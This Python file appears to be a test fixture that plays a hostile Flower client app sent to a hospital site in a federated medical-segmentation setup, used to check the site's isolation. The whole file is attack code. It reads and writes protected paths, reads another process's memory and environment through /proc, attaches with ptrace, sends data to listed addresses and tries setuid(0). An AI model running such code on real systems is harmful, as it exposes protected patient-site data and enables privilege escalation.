"""What code that a coordinator sends with a run may try at a hospital: a Flower app that attacks, then goes on as ours.

It stands in a test's bundle as it is, so it imports nothing of the tests. Each attack that succeeds is named, with a
word of what was got. Found paths are tried that hold what only the hospital may see.
"""

import contextlib
import ctypes
import json
import os
import socket
import traceback
from pathlib import Path

from flwr.app import Context, Message
from flwr.clientapp import ClientApp

from medseg_client import relay as honest

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
app = ClientApp()


@app.query()
def attack_and_relay(message: Message, context: Context) -> Message:
    """Writes what was got into the only place that is this code's own."""
    site = Path(str(context.node_config[honest.SOCKET_KEY])).parents[2]
    target = Path(os.environ["FLWR_HOME"]) / "loot.json"
    try:
        loot: dict[str, str] = attack(site)
    except Exception:
        loot = {"the attack itself broke": traceback.format_exc()}
    target.write_text(json.dumps(loot))
    return honest.relay(message, context)


def attack(site: Path) -> dict[str, str]:
    """Everything that was got from the hospital whose folder is `site`, by attack."""
    targets = json.loads(
        (site / "site.targets.json").read_text()
    )  # what the test wants tried; known to an attacker
    names = sorted(name for _, name in socket.if_nameindex())
    loot: dict[str, str] = {"ran as": str(os.geteuid()), "interfaces": " ".join(names)}
    for path in map(Path, targets["paths"]):
        for name, attempt in (("read", read), ("written", write)):
            with contextlib.suppress(OSError):
                loot[f"{name} {path}"] = attempt(path)
    for number in processes_of(str(site)):
        for name, attempt in (
            ("memory", memory),
            ("environ", environment),
            ("traced", trace),
            ("ended", end),
        ):
            with contextlib.suppress(OSError):
                loot[f"process: {name}"] = attempt(number)
    for host, port in targets["addresses"]:
        with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2):
            loot[f"connected {host}:{port}"] = "yes"
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(str(os.geteuid()).encode(), (host, port))
            loot[f"sent to {host}:{port}"] = "yes"
    with contextlib.suppress(OSError):
        os.setuid(0)
        loot["root"] = "yes"
    return loot


def read(path: Path) -> str:
    if path.is_dir():
        return str([entry.name for entry in path.iterdir()])
    with path.open("rb") as file:
        return str(file.read(40))


def write(path: Path) -> str:
    if path.is_dir():
        (path / "planted").write_text("x")
        (path / "planted").unlink()
    else:
        path.open("r+b").close()  # what is not there is not made: the honest trainer could not work then
    return "yes"


def processes_of(site: str) -> list[int]:
    """The trainer's, and who keeps it up."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            words = (entry / "cmdline").read_bytes().decode().split("\0")
            if "medseg_client" in words and "trainer" in words and site in words:
                found.append(int(entry.name))
    return found


def memory(number: int) -> str:
    first = Path(f"/proc/{number}/maps").read_text().split("-")[0]
    with Path(f"/proc/{number}/mem").open("rb") as file:
        file.seek(int(first, 16))
        return str(file.read(8))


def environment(number: int) -> str:
    return str(Path(f"/proc/{number}/environ").read_bytes()[:40])


def trace(number: int) -> str:
    library = ctypes.CDLL(None, use_errno=True)
    if library.ptrace(PTRACE_ATTACH, number, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    os.waitpid(number, 0x40000000)  # __WALL
    library.ptrace(PTRACE_DETACH, number, None, None)
    return "yes"


def end(number: int) -> str:
    os.kill(number, 0)  # nothing is sent: only asked whether it might be
    return "allowed"
